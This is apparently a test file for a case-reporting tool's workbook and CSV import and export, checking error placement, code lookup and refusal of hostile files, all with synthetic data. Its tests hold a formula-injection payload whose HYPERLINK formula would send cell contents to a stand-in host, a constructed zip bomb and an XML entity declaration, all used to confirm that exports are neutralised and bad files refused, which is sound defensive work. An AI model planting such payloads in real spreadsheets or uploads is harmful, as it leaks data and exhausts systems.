/**
 * Import of filled templates: every problem names its sheet, row and column (or CSV line) and the JSON pointer;
 * labels become codes only when they fit one code; formulas are never calculated; exported text is neutralised
 * against formula injection; oversized, zip-bomb and foreign files are refused before they cost memory, with
 * messages that never repeat the file's content. All data is synthetic.
 */
import { deflateRawSync } from 'node:zlib';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { validateImported } from '../src/cli/import-command.js';
import type { ImportedRecord, PlacedFinding } from '../src/io/imported-record.js';
import { UnusableInputError } from '../src/io/read-records.js';
import { CodeLookup } from '../src/tabular/code-lookup.js';
import { currentLayout } from '../src/tabular/current-layout.js';
import runtimeModel from '../src/generated/runtime-model.js';
import { exportCsvPackage, exportWorkbook, ExportRefused } from '../src/tabular/export-tabular.js';
import { importCsvPackage, importWorkbook } from '../src/tabular/import-tabular.js';
import { columnLetters } from '../src/tabular/source-table.js';
import { decodeEntities } from '../src/tabular/xlsx/xml-scan.js';
import { entryString, readZipDirectory } from '../src/tabular/zip/zip-archive.js';
import { editSheet, rowsOf, writeFilledWorkbook, type Row } from './helpers/filled-workbook.js';

const dir = mkdtempSync(join(tmpdir(), 'htfds-import-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const minimal = JSON.parse(readFileSync('examples/minimal.json', 'utf8')) as Record<string, unknown>;
const SECRET = 'Synthetic Secret Name 7731';
let n = 0;
const path = (ext: string) => join(dir, `f${n++}.${ext}`);

async function collect(records: AsyncIterable<ImportedRecord>) {
  const out: ImportedRecord[] = [];
  for await (const r of records) out.push(r);
  return out.map((r) => validateImported(r));
}
const findingsOf = (results: { all: PlacedFinding[] }[]) => results.flatMap((r) => r.all);
const byCode = (results: { all: PlacedFinding[] }[], code: string) => findingsOf(results).filter((f) => f.code === code);

/** Every case needs a victim profile: the minimal example's (linked to the only case), unless a test gives its own. */
const profileRows = rowsOf(minimal).victimProfiles!.map(({ '#case': _case, ...row }) => row);

async function importRows(sheets: Record<string, Row[]>) {
  const file = path('xlsx');
  await writeFilledWorkbook(file, { victimProfiles: profileRows, ...sheets });
  return { file, results: await collect(importWorkbook(file)) };
}

const caseRows = rowsOf(minimal).case!;
const codeAndTitle = (list: string, i = 0) => currentLayout.lists.find((l) => l.name === list)!.entries[i]!;

describe('import of a filled workbook', () => {
  test('one case: list rows with no case column belong to it; labels and other letter cases become codes; stray spaces are no answer', async () => {
    const method = codeAndTitle('paymentMethod', 1);
    const purpose = codeAndTitle('transactionPurpose', 0);
    const { results } = await importRows({
      case: caseRows,
      transactions: [{ id: 'T1', isAggregate: 'yes', 'amount/amount': 12.5, 'amount/currency': 'gbp', method: method.title, purpose: purpose.code.toUpperCase(), evidenceBasis: `${codeAndTitle('evidenceBasis', 0).title}; ${codeAndTitle('evidenceBasis', 1).code}`, frequency: '   ' }],
    });
    expect(findingsOf(results)).toEqual([]);
    expect(results).toHaveLength(1);
    expect((results[0]!.record as { transactions: unknown[] }).transactions).toEqual([
      { id: 'T1', isAggregate: true, amount: { amount: 12.5, currency: 'GBP' }, method: method.code, purpose: purpose.code, evidenceBasis: [codeAndTitle('evidenceBasis', 0).code, codeAndTitle('evidenceBasis', 1).code] },
    ]);
  });

  test('a label that fits several codes is not guessed', async () => {
    const { results } = await importRows({ case: [{ ...caseRows[0], reportingCountry: 'Congo' }] });
    const [finding] = byCode(results, 'label-ambiguous');
    expect(finding).toMatchObject({ severity: 'error', path: '/reportingCountry', place: { sheet: 'case', row: 4, field: 'reportingCountry' } });
    expect(finding!.message).toMatch(/fits several codes: (CD, CG|CG, CD)/);
    const lookup = new CodeLookup([{ name: 'x', title: 'x', open: false, withMissing: false, entries: [{ code: 'a', title: 'Same', description: '' }, { code: 'b', title: 'same ', description: '' }] }]);
    expect(lookup.resolve('x', 'SAME')).toEqual({ ambiguous: ['a', 'b'] });
    expect(lookup.resolve('x', 'A')).toEqual({ code: 'a' });
  });

  test('every problem names sheet, row, column and JSON pointer, and never repeats the cell', async () => {
    const keys = ['#case', 'id', 'isAggregate', 'date', 'amount/amount', 'amount/currency', 'method', 'purpose', 'count'];
    const letter = (key: string) => columnLetters(keys.indexOf(key) + 1);
    const good = { id: 'T1', isAggregate: false, 'amount/amount': 10, 'amount/currency': 'EUR', method: codeAndTitle('paymentMethod').code, purpose: codeAndTitle('transactionPurpose').code };
    const { file, results } = await importRows({
      case: caseRows,
      transactions: [
        Object.fromEntries(keys.map((k) => [k, null])),
        { ...good, id: 'T1', 'amount/amount': `${SECRET} 12,50` },
        { ...good, id: 'T2', date: '03/04/2024', count: { formula: 'A1*2', result: 5 } },
        { ...good, id: 'T3', 'amount/amount': '(missing: notAsked)', 'amount/currency': 'EUR', method: { error: '#N/A' } },
        { ...good, id: '(missing: unknown)', purpose: '(none)' },
        { ...good, id: 'T5', method: `${SECRET}Code` },
      ],
    });
    const at = (code: string) => byCode(results, code).map((f) => ({ path: f.path, sheet: f.place?.sheet, row: f.place?.row, column: f.place?.column }));
    // Row 4 is blank (skipped), so the first transaction is row 5 and /transactions/0.
    expect(at('not-a-number')).toEqual([{ path: '/transactions/0/amount/amount', sheet: 'transactions', row: 5, column: letter('amount/amount') }]);
    expect(at('date-format')).toEqual([{ path: '/transactions/1/date', sheet: 'transactions', row: 6, column: letter('date') }]);
    expect(at('cell-formula')).toEqual([{ path: '/transactions/1/count', sheet: 'transactions', row: 6, column: letter('count') }]);
    expect(at('amount-missing-and-given')).toHaveLength(1);
    expect(at('amount-missing-and-given')[0]).toMatchObject({ path: '/transactions/2/amount/currency', row: 7 });
    expect(at('cell-error')).toEqual([{ path: '/transactions/2/method', sheet: 'transactions', row: 7, column: letter('method') }]);
    expect(at('missing-not-accepted')).toEqual([{ path: '/transactions/3/id', sheet: 'transactions', row: 8, column: letter('id') }]);
    expect(at('none-not-a-list')).toEqual([{ path: '/transactions/3/purpose', sheet: 'transactions', row: 8, column: letter('purpose') }]);
    // A validation finding, placed back on its cell.
    expect(at('code-unknown')).toContainEqual({ path: '/transactions/4/method', sheet: 'transactions', row: 9, column: letter('method') });
    // The formula's cached result is not taken.
    expect((results[0]!.record as { transactions: Record<string, unknown>[] }).transactions[1]).not.toHaveProperty('count');
    for (const f of findingsOf(results)) {
      expect(JSON.stringify(f)).not.toContain(SECRET);
      expect(f.place?.file).toBe(file);
    }
  });

  test('rows that link to no case or parent, unknown sheets and columns, and named-empty lists with rows', async () => {
    const second = { ...caseRows[0], recordId: '7d1f0c2a-4b8e-4f6a-9c3d-2e5b8a1f0c4d' };
    const { results } = await importRows({
      case: [caseRows[0]!, second],
      persons: [
        { '#case': minimal.recordId as string, id: 'P1', personRole: codeAndTitle('personRole').code },
        { id: 'P2', personRole: codeAndTitle('personRole').code },
        { '#case': '00000000-0000-4000-8000-000000000000', id: 'P3', personRole: codeAndTitle('personRole').code },
      ],
      'persons.identifiers': [{ '#case': minimal.recordId as string, '#parent': 'P9', id: 'I1', type: codeAndTitle('identifierType').code }],
      notes: [{ anything: 'x' }],
      accounts: [{ '#case': second.recordId, id: 'A1', instrumentType: codeAndTitle('instrumentType').code, institutionType: codeAndTitle('institutionType').code, institutionCountry: 'GB', colour: 'blue' }],
    });
    expect(byCode(results, 'row-without-case')[0]!.place).toMatchObject({ sheet: 'persons', row: 5, column: 'A', field: '#case' });
    expect(byCode(results, 'case-not-found')[0]!.place).toMatchObject({ sheet: 'persons', row: 6 });
    expect(byCode(results, 'parent-not-found')[0]!.place).toMatchObject({ sheet: 'persons.identifiers', row: 4, field: '#parent' });
    expect(byCode(results, 'table-unknown')[0]).toMatchObject({ severity: 'warning', place: { sheet: 'notes' } });
    expect(byCode(results, 'column-unknown')[0]).toMatchObject({ severity: 'warning', place: { sheet: 'accounts', row: 1, field: 'colour' } });
    expect((results[0]!.record as { persons: unknown[] }).persons).toHaveLength(1);
    expect((results[1]!.record as { accounts: unknown[] }).accounts).toHaveLength(1);

    const marked = await importRows({ case: [{ ...caseRows[0], '#empty': 'persons; laundering' }] });
    expect(findingsOf(marked.results).filter((f) => f.severity === 'error')).toEqual([]);
    expect(marked.results[0]!.record).toMatchObject({ persons: [], laundering: {} });
    const contradicted = await importRows({ case: [{ ...caseRows[0], '#empty': 'persons' }], persons: [{ id: 'P1', personRole: codeAndTitle('personRole').code }] });
    expect(byCode(contradicted.results, 'empty-list-has-rows')[0]).toMatchObject({ path: '/persons', place: { sheet: 'case', row: 4, field: '#empty' } });
  });

  test('a value in a column with no machine heading is a placed error (the sheet’s other data still imports)', async () => {
    const { results } = await importRows({ case: [{ ...caseRows[0], '': SECRET }] });
    const [finding] = byCode(results, 'cell-without-column');
    expect(finding).toMatchObject({ severity: 'error', place: { sheet: 'case', row: 4 } });
    expect(JSON.stringify(findingsOf(results))).not.toContain(SECRET);
    expect((results[0]!.record as { recordId: string }).recordId).toBe(minimal.recordId);
  });

  test('data typed in a heading row is a placed error, with the sheet, row and column; the template\'s own headings are not', async () => {
    const file = path('xlsx');
    await writeFilledWorkbook(file, { case: caseRows });
    let recordIdColumn = 0;
    let nextField = '';
    await editSheet(file, 'case', (sheet) => {
      recordIdColumn = (sheet.getRow(1).values as unknown[]).indexOf('recordId');
      nextField = (sheet.getRow(1).values as string[])[recordIdColumn + 1]!;
      // A value typed over a column title, and one in the section row where the template has nothing.
      sheet.getCell(3, recordIdColumn).value = SECRET;
      sheet.getCell(2, recordIdColumn + 1).value = 42;
    });
    const results = await collect(importWorkbook(file));
    const found = byCode(results, 'heading-changed');
    expect(found.map((f) => f.place)).toEqual([
      { file, sheet: 'case', row: 2, column: columnLetters(recordIdColumn + 1), field: nextField },
      { file, sheet: 'case', row: 3, column: columnLetters(recordIdColumn), field: 'recordId' },
    ]);
    expect(found.every((f) => f.severity === 'error')).toBe(true);
    expect(JSON.stringify(findingsOf(results))).not.toContain(SECRET);
    // The report itself still imports.
    expect((results[0]!.record as { recordId: string }).recordId).toBe(minimal.recordId);
  });

  test('a sheet whose heading rows were deleted: its first rows of data are reported, not silently skipped', async () => {
    const file = path('xlsx');
    await writeFilledWorkbook(file, { case: caseRows });
    await editSheet(file, 'case', (sheet) => sheet.spliceRows(2, 2));
    const results = await collect(importWorkbook(file));
    expect(byCode(results, 'heading-changed').map((f) => f.place?.row)).toContain(2);
    expect(byCode(results, 'no-case')).toHaveLength(1);
  });

  test('a workbook written by htfds export has no heading findings', async () => {
    const file = path('xlsx');
    writeFileSync(file, await exportWorkbook([minimal]));
    const results = await collect(importWorkbook(file));
    expect(byCode(results, 'heading-changed')).toEqual([]);
  });

  test('a workbook whose machine header row was removed is refused table by table', async () => {
    const file = path('xlsx');
    await writeFilledWorkbook(file, { case: caseRows });
    await editSheet(file, 'case', (sheet) => sheet.spliceRows(1, 1));
    const results = await collect(importWorkbook(file));
    expect(byCode(results, 'header-missing')[0]).toMatchObject({ severity: 'error', place: { sheet: 'case', row: 1 } });
    expect(byCode(results, 'no-case')).toHaveLength(1);
  });
});

describe('errors about a whole table go with every report (no one can say which case they concern)', () => {
  const fishing = JSON.parse(readFileSync('examples/fishing.json', 'utf8')) as Record<string, unknown>;
  /** Per report: is it valid, and how often each code is among its findings; then the codes given apart from any report. */
  const verdicts = (results: ReturnType<typeof validateImported>[], code: string) => ({
    reports: results.filter((r) => r.record !== undefined).map((r) => ({ valid: r.valid, found: r.all.filter((f) => f.code === code).length })),
    apart: results.filter((r) => r.record === undefined).flatMap((r) => r.all.map((f) => f.code)),
  });

  test('text typed in a heading row of a two-case workbook makes both reports invalid, the finding placed on its cell', async () => {
    const file = path('xlsx');
    const [a, b] = [rowsOf(fishing), rowsOf(minimal)];
    await writeFilledWorkbook(file, Object.fromEntries([...new Set([...Object.keys(a), ...Object.keys(b)])].map((t) => [t, [...(a[t] ?? []), ...(b[t] ?? [])]])));
    await editSheet(file, 'countriesInvolved', (sheet) => void (sheet.getCell(2, 4).value = SECRET));
    const results = await collect(importWorkbook(file));
    expect(verdicts(results, 'heading-changed')).toEqual({ reports: [{ valid: false, found: 1 }, { valid: false, found: 1 }], apart: [] });
    expect(byCode(results, 'heading-changed')[0]).toMatchObject({ severity: 'error', path: '', place: { file, sheet: 'countriesInvolved', row: 2, column: 'D' } });
    expect(JSON.stringify(findingsOf(results))).not.toContain(SECRET);
  });

  test('a CSV package: a column given twice makes every report invalid; a file the template does not have stays a warning given once', async () => {
    const folder = path('csv');
    mkdirSync(folder);
    for (const f of exportCsvPackage([fishing, minimal])) {
      // countriesInvolved.csv with its country column repeated at the end (synthetic values).
      const content = f.path === 'countriesInvolved.csv' ? f.content.split('\r\n').map((l, i) => (l === '' ? l : `${l},${i === 0 ? 'country' : 'FR'}`)).join('\r\n') : f.content;
      writeFileSync(join(folder, f.path), content);
    }
    writeFileSync(join(folder, 'notes.csv'), 'note\r\nsynthetic\r\n');
    const results = await collect(importCsvPackage(folder));
    expect(verdicts(results, 'column-repeated')).toEqual({ reports: [{ valid: false, found: 1 }, { valid: false, found: 1 }], apart: ['table-unknown'] });
  });
});

describe('what the workbook cannot ask of a person is filled in on import (issue 15)', () => {
  const indicator = Object.entries(runtimeModel.indicators).find(([, status]) => status !== 'withdrawn')![0];

  test('a case with no record identifier gets a new UUID and a warning that gives it; indicators get the catalogue version of the workbook', async () => {
    const { recordId: _made, ...withoutId } = caseRows[0]!;
    const status = currentLayout.lists.find((l) => l.name === 'indicatorStatus')!.entries[0]!.code;
    const { results } = await importRows({ case: [withoutId], indicators: [{ id: 'IND-1', indicatorId: indicator, status }] });
    expect(results).toHaveLength(1);
    const [result] = results;
    const record = result!.record as Record<string, unknown>;
    expect(record.recordId).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(record.indicatorCatalogueVersion).toBe(currentLayout.version);
    expect(result!.all.filter((f) => f.severity === 'error')).toEqual([]);
    expect(result!.valid).toBe(true);
    const [made] = byCode(results, 'record-id-made');
    expect(made).toMatchObject({ severity: 'warning', path: '/recordId', place: { sheet: 'case', row: 4 } });
    expect(made!.message).toContain(String(record.recordId));
    // Imported again, the workbook with the identifier written in keeps it, and nothing is said.
    const again = await importRows({ case: [{ ...withoutId, recordId: record.recordId as string }], indicators: [{ id: 'IND-1', indicatorId: indicator, status }] });
    expect((again.results[0]!.record as Record<string, unknown>).recordId).toBe(record.recordId);
    expect(byCode(again.results, 'record-id-made')).toEqual([]);
  });

  test('with several cases, one without an identifier is not given one: its rows could not be linked to it', async () => {
    const { recordId: _made, ...withoutId } = caseRows[0]!;
    const { results } = await importRows({ case: [withoutId, caseRows[0]!] });
    expect(byCode(results, 'record-id-made')).toEqual([]);
    expect(byCode(results, 'required-missing').map((f) => f.path)).toContain('/recordId');
  });
});

describe('formula injection', () => {
  const report = { ...minimal, dataQualityNote: '=HYPERLINK("http://example.invalid/?q="&A1,"click")', sharing: { ...(minimal.sharing as object), statutoryGateway: '@SUM(1+1)', handlingConditions: "'+quoted" } };

  test('exported text never starts a formula, in the workbook or the CSV files, and reads back as written', async () => {
    const file = path('xlsx');
    const bytes = await exportWorkbook([report]);
    writeFileSync(file, bytes);
    const entries = readZipDirectory(bytes);
    const sheet = await entryString(bytes, entries.find((e) => e.name === 'xl/worksheets/sheet2.xml')!);
    expect(sheet).not.toMatch(/<f[ >]/);
    const strings = await entryString(bytes, entries.find((e) => e.name === 'xl/sharedStrings.xml')!);
    const texts = [...strings.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map((m) => decodeEntities(m[1]!));
    for (const text of [report.dataQualityNote, '@SUM(1+1)', "'+quoted"]) {
      expect(texts).toContain(`'${text}`);
      expect(texts).not.toContain(text);
    }
    expect((await collect(importWorkbook(file)))[0]!.record).toStrictEqual(report);

    const folder = join(dir, `pkg${n++}`);
    mkdirSync(folder);
    for (const f of exportCsvPackage([report])) writeFileSync(join(folder, f.path), f.content);
    const csv = readFileSync(join(folder, 'case.csv'), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://example.invalid/?q=""&A1,""click"")"`);
    expect(csv.split(/[,\r\n]/).some((field) => /^"?[=+\-@]/.test(field))).toBe(false);
    expect((await collect(importCsvPackage(folder)))[0]!.record).toStrictEqual(report);
  });

  test('export refuses a report it cannot write so that it reads back the same, naming the value', () => {
    // Its own record identifier: rows of two cases with one identifier (its victim profile's) could not be told apart.
    const odd = { ...minimal, recordId: '5c2e9a7d-3b1f-4e8a-9d6c-0f4b7e2a1c93', narrativeSummary: 42, unknownField: 'x' };
    try {
      exportCsvPackage([minimal, odd]);
      expect.unreachable();
    } catch (error) {
      expect(error).toBeInstanceOf(ExportRefused);
      expect((error as ExportRefused).problems).toEqual([expect.objectContaining({ report: 1, path: '/narrativeSummary' })]);
    }
  });
});

/** A zip archive with the given entries; `declared` overrides the uncompressed size written in its headers. */
function zip(entries: { name: string; data: Buffer; declared?: number }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, declared } of entries) {
    const compressed = deflateRawSync(data);
    const nameBytes = Buffer.from(name);
    const size = declared ?? data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, compressed);
    centrals.push(central, nameBytes);
    offset += 30 + nameBytes.length + compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const WORKBOOK_XML = Buffer.from('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="r"><sheets><sheet name="case" sheetId="1" r:id="rId1"/></sheets></workbook>');
const RELS_XML = Buffer.from('<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>');

async function refusal(file: string, options: Parameters<typeof importWorkbook>[1] = {}): Promise<string> {
  try {
    await collect(importWorkbook(file, options));
  } catch (error) {
    expect(error).toBeInstanceOf(UnusableInputError);
    expect((error as Error).message).not.toContain(SECRET);
    return (error as Error).message;
  }
  throw new Error('the file was not refused');
}

describe('hostile and foreign files', () => {
  test('a zip bomb is refused from its directory alone, before anything is inflated', async () => {
    const file = path('xlsx');
    // 64 MiB of one repeated byte deflates to about 64 KiB: a ratio of about 1000.
    writeFileSync(file, zip([{ name: 'xl/workbook.xml', data: WORKBOOK_XML }, { name: 'xl/_rels/workbook.xml.rels', data: RELS_XML }, { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(64 * 1024 * 1024, 0x20) }]));
    const before = process.memoryUsage().rss;
    const started = performance.now();
    expect(await refusal(file)).toMatch(/would inflate \d+ times its size, like a zip bomb; it was not opened/);
    expect(performance.now() - started).toBeLessThan(2000);
    expect(process.memoryUsage().rss - before).toBeLessThan(32 * 1024 * 1024);
  });

  test('a part that inflates to more than its directory declares is stopped there', async () => {
    const file = path('xlsx');
    const sheet = Buffer.from(`<worksheet><sheetData><row r="4"><c r="A4" t="inlineStr"><is><t>${SECRET.repeat(1000)}</t></is></c></row></sheetData></worksheet>`);
    writeFileSync(file, zip([{ name: 'xl/workbook.xml', data: WORKBOOK_XML }, { name: 'xl/_rels/workbook.xml.rels', data: RELS_XML }, { name: 'xl/worksheets/sheet1.xml', data: sheet, declared: 1000 }]));
    expect(await refusal(file)).toMatch(/inflates to more than it declares, like a zip bomb/);
  });

  test('too large a file, or too much inflated data, is refused with the limit', async () => {
    const file = path('xlsx');
    writeFileSync(file, await exportWorkbook([minimal]));
    expect(await refusal(file, { limits: { maxFileBytes: 1000, zip: { maxEntries: 100, maxTotalBytes: 1e9, maxRatio: 200 } } })).toMatch(/more than the 0 MiB allowed|more than the .* allowed; split it/);
    expect(await refusal(file, { limits: { maxFileBytes: 1e9, zip: { maxEntries: 100, maxTotalBytes: 100 * 1024, maxRatio: 200 } } })).toMatch(/would inflate to \d+ MiB, more than the .* MiB allowed/);
    expect(await refusal(file, { limits: { maxFileBytes: 1e9, zip: { maxEntries: 3, maxTotalBytes: 1e9, maxRatio: 200 } } })).toMatch(/holds \d+ files/);
  });

  test('files that are not workbooks say what they are', async () => {
    const cases: [Buffer, RegExp][] = [
      [Buffer.from(`${SECRET},1,2\n`), /this is not an Excel workbook \(\.xlsx\)/],
      [Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), /old-style \.xls workbook; save it as \.xlsx/],
      [zip([{ name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet') }, { name: 'content.xml', data: Buffer.from(SECRET) }]), /OpenDocument spreadsheet \(\.ods\)/],
      [zip([{ name: 'word/document.xml', data: Buffer.from(SECRET) }]), /a zip archive but not an Excel workbook/],
      [zip([{ name: 'xl/workbook.xml', data: WORKBOOK_XML }, { name: 'xl/_rels/workbook.xml.rels', data: RELS_XML }, { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(`<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${SECRET}`) }]), /workbook's XML is damaged \(the XML ends in the middle of a tag\)/],
      [zip([{ name: 'xl/workbook.xml', data: WORKBOOK_XML }, { name: 'xl/_rels/workbook.xml.rels', data: RELS_XML }, { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(`<!DOCTYPE x [<!ENTITY a "${SECRET}">]><worksheet/>`) }]), /document type declaration is not allowed/],
      [zip([{ name: 'xl/workbook.xml', data: WORKBOOK_XML }, { name: 'xl/_rels/workbook.xml.rels', data: RELS_XML }, { name: 'xl/worksheets/sheet1.xml', data: Buffer.from([0x3c, 0x61, 0xff, 0xfe, 0x3e]) }]), /not UTF-8 text: the file is damaged/],
      [Buffer.alloc(0), /the file is empty/],
    ];
    for (const [bytes, expected] of cases) {
      const file = path('xlsx');
      writeFileSync(file, bytes);
      expect(await refusal(file)).toMatch(expected);
    }
  });
});

describe('import of a CSV package', () => {
  test('problems name the file, the line the record starts on, and the column', async () => {
    const folder = join(dir, `csv${n++}`);
    mkdirSync(folder);
    for (const f of exportCsvPackage([minimal])) writeFileSync(join(folder, f.path), f.content);
    writeFileSync(
      join(folder, 'transactions.csv'),
      `id,isAggregate,amount/amount,amount/currency,method,purpose,thresholdReference\r\nT1,false,5,EUR,cashHandover,${codeAndTitle('transactionPurpose').code},"two\r\nlines"\r\nT2,maybe,5,EUR,cashHandover,${codeAndTitle('transactionPurpose').code},\r\n`,
    );
    const results = await collect(importCsvPackage(folder));
    const [finding] = byCode(results, 'not-yes-no');
    expect(finding).toMatchObject({ path: '/transactions/1/isAggregate', place: { file: join(folder, 'transactions.csv'), line: 4, field: 'isAggregate' } });
    expect(finding!.place).not.toHaveProperty('sheet');
  });

  test('a record with more fields than the header: each extra value is a placed error, never dropped without a word', async () => {
    const folder = join(dir, `csv${n++}`);
    mkdirSync(folder);
    for (const f of exportCsvPackage([minimal])) writeFileSync(join(folder, f.path), f.content);
    const header = readFileSync(join(folder, 'case.csv'), 'utf8').split('\r\n')[0]!;
    const lines = readFileSync(join(folder, 'case.csv'), 'utf8').split('\r\n');
    lines[1] = `${lines[1]},${SECRET},`;
    writeFileSync(join(folder, 'case.csv'), lines.join('\r\n'));
    const results = await collect(importCsvPackage(folder));
    const extra = byCode(results, 'cell-without-column');
    expect(extra).toHaveLength(1);
    expect(extra[0]).toMatchObject({ severity: 'error', place: { file: join(folder, 'case.csv'), line: 2 } });
    expect(extra[0]!.message).toContain(`Field ${header.split(',').length + 1} of this record`);
    expect(header.split(',').length).toBeLessThan(lines[1]!.split(',').length);
    expect(JSON.stringify(extra)).not.toContain(SECRET);
  });

  test('text that is not UTF-8, or a quote never closed, makes the package unusable, with the line', async () => {
    const folder = join(dir, `csv${n++}`);
    mkdirSync(folder);
    writeFileSync(join(folder, 'case.csv'), Buffer.concat([Buffer.from('recordId\r\n'), Buffer.from([0xc3, 0x28])]));
    await expect(collect(importCsvPackage(folder))).rejects.toThrow(/case\.csv: the text is not valid UTF-8/);
    writeFileSync(join(folder, 'case.csv'), `recordId,dataQualityNote\r\nx,"${SECRET}\r\n`);
    await expect(collect(importCsvPackage(folder))).rejects.toThrow(/case\.csv \(line 2\): a quoted value is not closed/);
  });
});
